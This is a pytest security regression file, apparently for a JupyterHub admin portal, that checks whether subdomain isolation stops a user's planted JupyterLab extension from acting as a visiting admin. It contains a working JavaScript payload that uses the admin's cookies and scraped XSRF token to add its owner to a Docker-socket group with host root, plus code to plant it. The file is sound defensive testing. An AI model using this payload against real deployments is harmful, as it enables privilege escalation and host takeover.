"""In Chromium: code a user put into their own JupyterLab attacks the admin who opens that lab.

A user controls everything their lab serves. Here the lab user drops a JupyterLab extension
into `~/.local/share/jupyter/labextensions` (no admin rights needed, no restart: JupyterLab
loads it on the next page load); its script reads the portal with the visiting admin's cookies
and adds its owner to `docker-sock` (root on the host). The admin confirmed their password a
moment ago, as after any legitimate grant, so sudo mode alone would not stop it.

Labs on the hub's own origin (the default hub of the test session): the attack works. That is
the hole, shown so the other test cannot pass by the attack silently breaking. Labs on their own
origin (JUPYTERHUB_SUBDOMAIN_HOST, `<user>.localhost`): it reads nothing and changes nothing,
while the portal's links, restart readiness and broadcast delivery still work.
"""

from __future__ import annotations

import html
import json
import re
import time
from types import SimpleNamespace
from urllib.parse import urljoin, urlparse

import pytest
import requests
from playwright.sync_api import Page

from tests.support.clients import PASSWORD, ensure_running, ensure_stopped, signup
from tests.support.hub import PREFIX, Hub
from tests.ui.test_signup_to_lab import sign_in

EXTENSION = f"{PREFIX}lab-origin-probe"
# Runs in the admin's browser when the lab page loads the "extension": same-origin requests to
# the portal if it can, plus a blind form post (no response needed) that a browser always sends.
ATTACK_JS = r"""
(function () {
  var r = window.__attack = {done: false, read: false, status: null, error: null};
  var parts = location.pathname.split("/user/");
  var user = decodeURIComponent(parts[1].split("/")[0]);
  var host = location.hostname.endsWith(".localhost") ? "localhost" : location.hostname;
  var hub = location.protocol + "//" + host + (location.port ? ":" + location.port : "")
    + parts[0] + "/hub/";
  var form = {"Content-Type": "application/x-www-form-urlencoded"};
  var body = "username=" + encodeURIComponent(user);
  (async function () {
    try {
      var page = await fetch(hub + "portal/admin", {credentials: "include"});
      var html = await page.text();
      r.read = html.indexOf("Docker access") >= 0;
      var token = (html.match(/"X-XSRFToken": "([^"]+)"/) || [])[1] || "";
      var add = await fetch(hub + "portal/admin/groups/docker-sock/add", {
        method: "POST", credentials: "include", body: body,
        headers: Object.assign({"X-XSRFToken": token, "HX-Request": "true"}, form)});
      r.status = add.status;
    } catch (e) { r.error = String(e); }
    try {
      await fetch(hub + "portal/admin/groups/docker-sock/add", {
        method: "POST", mode: "no-cors", credentials: "include", headers: form, body: body});
    } catch (e) { r.error = (r.error || "") + " / " + e; }
    r.done = true;
  })();
})();
"""
PACKAGE_JSON = {"name": EXTENSION, "version": "0.1.0",
                "jupyterlab": {"_build": {"load": "static/remoteEntry.js",
                                          "extension": "./extension"}}}


def plant_extension(docker_client, user: str) -> None:
    """What the lab's user can do from a terminal or a notebook, as the user `lab`."""
    files = {"package.json": json.dumps(PACKAGE_JSON), "static/remoteEntry.js": ATTACK_JS}
    code = (
        "import json, os, sys\n"
        f"root = os.path.expanduser('~/.local/share/jupyter/labextensions/{EXTENSION}')\n"
        "for name, text in json.loads(sys.argv[1]).items():\n"
        "    path = os.path.join(root, name)\n"
        "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        "    open(path, 'w').write(text)\n"
    )
    container = docker_client.containers.get(f"{PREFIX}jupyterlab-{user}")
    out = container.exec_run(["python3", "-c", code, json.dumps(files)], user="lab")
    assert out.exit_code == 0, out.output


def confirm_sudo_in_page(page: Page, hub: Hub) -> None:
    """The admin confirms their password in the portal (sudo mode for this session)."""
    page.goto(hub.hub_url("portal"))
    status = page.evaluate("""async ([url, password]) => {
        const main = document.querySelector("main.portal");
        const headers = JSON.parse(main.getAttribute("hx-headers"));
        const r = await fetch(url, {method: "POST", body: JSON.stringify({password}),
                                    headers: {...headers, "Content-Type": "application/json"}});
        return r.status;
    }""", [hub.hub_url("portal/api/sudo"), PASSWORD])
    assert status == 200


def admin_opens_the_lab(browser, hub: Hub, user: str) -> tuple[dict, str]:
    """Sign in as admin, confirm sudo, follow the portal's "Open JupyterLab" link to the lab."""
    context = browser.new_context()
    page = context.new_page()
    sign_in(page, hub, "admin")
    confirm_sudo_in_page(page, hub)
    # The user's card, as the admin area shows it: the link the portal gives the admin.
    page.goto(hub.hub_url(f"portal/admin?q={user}"))
    card = page.request.get(hub.hub_url(f"portal/users/{user}/card"),
                            headers={"HX-Request": "true"}).text()
    link = html.unescape(re.search(r'<a class="btn btn-primary" href="([^"]+)">Open JupyterLab',
                                   card).group(1))
    page.goto(urljoin(page.url, link) + "lab")
    if "oauth2/authorize" in page.url:  # an admin opening someone else's lab confirms once
        page.get_by_role("button", name="Authorize").click()
    page.wait_for_function("window.__attack && window.__attack.done", timeout=90_000)
    result = page.evaluate("window.__attack")
    context.close()
    return result, link


def sock_members(hub: Hub) -> list[str]:
    return hub.api("GET", "groups/docker-sock").json()["users"]


@pytest.fixture(scope="module")
def subdomain_hub(docker_client, tmp_path_factory):
    h = Hub(tmp_path_factory.mktemp("subdomain-hub"), subdomains=True)
    h.start()
    assert signup(h, "admin", setup_code=h.setup_code()).status_code == 200
    yield h
    h.stop()


def test_without_subdomains_a_lab_script_acts_as_the_visiting_admin(hub, browser, make_user,
                                                                    docker_client):
    """The hole this guards against, on labs served under the hub's own origin."""
    mallory = make_user("mallory")
    ensure_running(mallory)
    plant_extension(docker_client, mallory.name)
    try:
        result, link = admin_opens_the_lab(browser, hub, mallory.name)
        assert not urlparse(link).netloc  # a path on the hub's origin
        assert result["read"] is True, result
        assert result["status"] == 200, result
        assert mallory.name in sock_members(hub)
    finally:
        hub.api("DELETE", "groups/docker-sock/users", json={"users": [mallory.name]})
        ensure_stopped(mallory)


def test_with_subdomains_a_lab_script_cannot_read_or_change_anything(subdomain_hub, browser,
                                                                     docker_client):
    hub = subdomain_hub
    # The victim's account and server through the REST API (the attack needs only a running
    # lab; the admin below uses a real browser).
    victim = SimpleNamespace(name="subvictim")
    assert hub.api("POST", "users/subvictim").status_code == 201
    assert hub.api("POST", "users/subvictim/server").status_code in (201, 202)
    deadline = time.monotonic() + 90
    while not hub.api("GET", "users/subvictim").json()["servers"].get("", {}).get("ready"):
        assert time.monotonic() < deadline, "the victim's lab did not start"
        time.sleep(0.5)
    plant_extension(docker_client, victim.name)

    result, link = admin_opens_the_lab(browser, hub, victim.name)
    assert result["read"] is False and result["status"] is None, result
    assert "subvictim" not in sock_members(hub)
    # The portal links to the lab on its own origin, which Chromium resolves to loopback.
    assert urlparse(link).netloc == f"subvictim.localhost:{hub.ports['proxy']}"

    # Restart readiness reaches the lab through the proxy by its Host; broadcasts arrive.
    driver = {"Authorization": f"token {hub.token}"}
    r = requests.post(hub.hub_url(f"portal/api/users/{victim.name}/server/restart"),
                      json={"wait": True}, headers=driver, timeout=150)
    assert r.status_code == 200 and r.json()["state"] == "running", r.text
    assert "did not answer" not in r.json()["detail"]
    r = requests.post(hub.hub_url("portal/api/broadcasts"), headers=driver,
                      json={"message": "origin check", "recipients": {"users": [victim.name]}},
                      timeout=30)
    assert r.status_code == 200 and r.json()["delivered"] == 1, r.text
    hub.api("DELETE", "users/subvictim/server")


def test_the_hub_under_another_name_sends_the_browser_to_its_origin(subdomain_hub, browser):
    """`make dev` serves http://localhost:8000; opened as http://127.0.0.1:8000 the pages got
    cookies for the wrong name and every form failed with "XSRF cookie does not match". The hub
    now redirects another name of itself to its origin, where signing in works."""
    hub = subdomain_hub
    stray = hub.hub_url("login").replace("//localhost:", "//127.0.0.1:", 1)
    r = requests.get(stray + "?next=x", allow_redirects=False, timeout=10)
    assert r.status_code == 302, r.status_code
    assert r.headers["Location"] == hub.hub_url("login") + "?next=x"
    # The API and the health check still answer under any name (labs and the proxy use them).
    health = hub.hub_url("health").replace("//localhost:", "//127.0.0.1:", 1)
    assert requests.get(health, allow_redirects=False, timeout=10).status_code == 200
    api = hub.hub_url("api/").replace("//localhost:", "//127.0.0.1:", 1)
    assert requests.get(api, allow_redirects=False, timeout=10).status_code == 200

    context = browser.new_context()
    page = context.new_page()
    page.goto(stray)
    assert urlparse(page.url).hostname == "localhost", page.url
    page.get_by_label("Username:").fill("admin")
    page.get_by_label("Password:").fill(PASSWORD)
    with page.expect_navigation():
        page.locator("#login_submit").click()
    assert "/hub/portal" in page.url, page.url  # signed in: no XSRF refusal
    context.close()
